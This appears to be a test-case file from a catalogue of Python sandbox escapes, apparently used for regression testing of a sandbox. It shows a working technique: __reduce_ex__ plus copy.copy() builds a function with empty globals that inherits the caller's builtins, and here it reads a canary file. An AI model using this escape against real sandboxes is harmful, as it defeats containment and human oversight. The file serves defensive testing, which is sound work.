# id: functiontype-empty-globals-builtins
# family: function-internals
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: a function made with empty globals inherits the builtins of the calling frame; copy.copy() makes the call for us
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import copy


class Recipe:
    def __reduce_ex__(self, protocol):
        code = (lambda: open("canary.txt").read()).__code__
        return type(lambda: 0), (code, {})


print(copy.copy(Recipe())())
